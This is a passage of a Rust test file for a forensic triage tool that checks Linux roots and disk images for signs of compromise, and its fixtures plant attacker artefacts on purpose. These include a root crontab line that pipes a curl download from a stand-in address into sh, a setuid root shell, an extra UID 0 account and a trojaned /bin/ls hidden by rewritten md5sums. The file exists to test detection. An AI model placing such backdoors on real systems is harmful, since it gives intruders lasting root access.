    assert_eq!(passwd[0]["severity"], "info");
    assert_eq!(passwd[0]["evidence"]["package"], "passwd");
    assert_eq!(passwd[0]["evidence"]["mode"], "-rwsr-xr-x 4755");
    // The hash never appears in the findings.
    assert!(!String::from_utf8_lossy(&o.stdout).contains("abcdefghijklmnopqrstuv"));

    let o = rescue(&["triage", s(&r)]);
    let table = String::from_utf8_lossy(&o.stdout).into_owned();
    for line in table.lines() {
        assert!(
            line.chars().count() <= 80,
            "wider than 80 columns: {line:?}"
        );
    }
    assert!(
        table.contains("critical") || table.contains("high"),
        "{table}"
    );
    assert!(table.contains("triage: "), "{table}");

    // A root without a package database (a hand-made or stripped system): a note says so and why
    // the "not owned by any package" checks were skipped, and the triage of the rest goes on.
    let bare = t.path().join("bare");
    write(
        &bare,
        "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\n",
        0o644,
    );
    write(&bare, "/usr/local/bin/rootsh", "#!/bin/sh\n", 0o4755);
    write(
        &bare,
        "/etc/crontab",
        "* * * * * root curl -s http://192.0.2.1/a | sh\n",
        0o644,
    );
    let o = rescue(&["triage", s(&bare), "--json"]);
    assert_eq!(o.status.code(), Some(3), "{}", text(&o));
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(report["roots"][0]["package_db"], serde_json::Value::Null);
    let note = report["notes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|n| n["kind"] == "package-db")
        .unwrap_or_else(|| panic!("no package-db note: {}", report["notes"]));
    assert!(
        note["message"]
            .as_str()
            .unwrap()
            .contains("no package database"),
        "{note}"
    );
    assert_found(
        &report,
        &[
            ("cron", "/etc/crontab", "high"),
            ("setuid", "/usr/local/bin/rootsh", "medium"),
        ],
    );
    let rootsh = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["path"] == "/usr/local/bin/rootsh")
        .unwrap();
    assert_eq!(rootsh["evidence"]["package_db"], serde_json::Value::Null);
    assert!(
        rootsh["why"]
            .as_str()
            .unwrap()
            .contains("no package database"),
        "{rootsh}"
    );
    let o = rescue(&["triage", s(&bare)]);
    let words = text(&o).split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(
        words.contains("no package database"),
        "the table does not say so: {}",
        text(&o)
    );

    // Bad input: not a time; a missing source; a directory that is no Linux root.
    let o = rescue(&["triage", s(&r), "--since", "yesterday-ish"]);
    assert_eq!(o.status.code(), Some(1));
    assert!(text(&o).contains("is not a time"), "{}", text(&o));
    let o = rescue(&["triage", "/nonexistent/source"]);
    assert_eq!(o.status.code(), Some(1));
    assert!(text(&o).contains("/nonexistent/source"), "{}", text(&o));
    let empty = t.path().join("empty");
    std::fs::create_dir(&empty).unwrap();
    let o = rescue(&["triage", s(&empty)]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(text(&o).contains("no Linux root"), "{}", text(&o));

    // Inside a case, a source with no Linux root is no triage run: the case (its menu step, every
    // restore's screening) must not take an empty finding list for a clean disk.
    let state = t.path().join("state");
    let in_case = |args: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_rescue"))
            .args(args)
            .env("RESCUE_SYSTEM", "1")
            .env("RESCUE_STATE_DIR", &state)
            .env_remove("RESCUE_CONSOLE")
            .output()
            .unwrap()
    };
    let o = in_case(&["case", "new", "C-NOROOT", "--examiner", "x"]);
    assert!(o.status.success(), "{}", text(&o));
    let out = t.path().join("triage-empty");
    let o = in_case(&["triage", s(&empty), "--out", s(&out)]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    let case: serde_json::Value =
        serde_json::from_slice(&std::fs::read(state.join("case.json")).unwrap()).unwrap();
    assert_eq!(
        case["triages"],
        serde_json::json!([]),
        "a triage without a Linux root is recorded as a run: {case}"
    );
}

/// A raw acquisition directory is triaged through its image; a zstd one is refused with what to do.
#[test]
fn an_acquisition_directory_is_triaged_through_its_image() {
    if !need_root("an_acquisition_directory_is_triaged_through_its_image") {
        return;
    }
    let t = tempfile::tempdir().unwrap();
    let d = t.path();
    let tree = d.join("tree");
    write(
        &tree,
        "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\nadm1n:x:0:0::/root:/bin/sh\n",
        0o644,
    );
    std::fs::create_dir_all(tree.join("usr/bin")).unwrap();
    let img = d.join("root.ext4");
    std::fs::File::create(&img)
        .unwrap()
        .set_len(16 << 20)
        .unwrap();
    run(Command::new("mke2fs")
        .args(["-q", "-F", "-t", "ext4", "-d"])
        .arg(&tree)
        .arg(&img));
    let raw = d.join("acq-raw");
    let o = rescue(&["acquire", s(&img), "--out", s(&raw)]);
    assert!(o.status.success(), "{}", text(&o));
    let o = rescue(&["triage", s(&raw), "--json"]);
    assert_eq!(o.status.code(), Some(3), "{}", text(&o));
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(report["source_kind"], "acquisition");
    assert_eq!(report["roots"][0]["fstype"], "ext4");
    assert_found(&report, &[("account", "/etc/passwd", "critical")]);
    let zst = d.join("acq-zstd");
    let o = rescue(&["acquire", s(&img), "--out", s(&zst), "--format", "zstd"]);
    assert!(o.status.success(), "{}", text(&o));
    let o = rescue(&["triage", s(&zst)]);
    assert_eq!(o.status.code(), Some(1));
    assert!(text(&o).contains("rescue mount"), "{}", text(&o));
}

/// `--packages-from`: a trojaned program is found against the distribution's signed `.deb` even after
/// the suspect's own md5sums were rewritten to match it.
#[test]
fn packages_from_signed_media_finds_a_trojan_the_local_md5sums_hide() {
    const NAME: &str = "packages_from_signed_media_finds_a_trojan_the_local_md5sums_hide";
    let keyring = Path::new("/usr/share/keyrings/debian-archive-keyring.gpg");
    if !keyring.is_file() && !pkgroots::skip(NAME, "debian-archive-keyring is not installed") {
        return;
    }
    let t = tempfile::tempdir().unwrap();
    let root = t.path().join("root");
    std::fs::create_dir(&root).unwrap();
    if pkgroots::debian12_root(NAME, &root).is_none() {
        return;
    }
    let media = t.path().join("media");
    pkgroots::media_from_debootstrap_root(&root, &media);
    append(&root, "/bin/ls", "trojaned");
    // The attacker fixes the local md5sums line so the suspect's own database agrees.
    let sums = root.join("var/lib/dpkg/info/coreutils.md5sums");
    let md5 = String::from_utf8(run(Command::new("md5sum").arg(root.join("bin/ls")))).unwrap();
    let md5 = md5.split_whitespace().next().unwrap().to_owned();
    let fixed: String = std::fs::read_to_string(&sums)
        .unwrap()
        .lines()
        .map(|l| {
            if l.ends_with("  bin/ls") {
                format!("{md5}  bin/ls\n")
            } else {
                format!("{l}\n")
            }
        })
        .collect();
    std::fs::write(&sums, fixed).unwrap();
    let o = rescue(&[
        "triage",
        s(&root),
        "--json",
        "--packages-from",
        s(&media),
        "--keyring",
        s(keyring),
    ]);
    assert_eq!(o.status.code(), Some(3), "{}", text(&o));
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let hits: Vec<&serde_json::Value> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["category"] == "package" && f["severity"] == "high")
        .collect();
    assert!(
        hits.iter().any(|f| f["path"] == "/bin/ls"
            && f["why"]
                .as_str()
                .unwrap()
                .contains("signed package coreutils")),
        "{hits:#?} {}",
        report["notes"]
    );
    // The local check alone no longer sees it.
    assert!(!hits.iter().any(
        |f| f["path"] == "/bin/ls" && f["why"].as_str().unwrap().starts_with("file of package")
    ));
    pkgroots::ran(NAME);
}
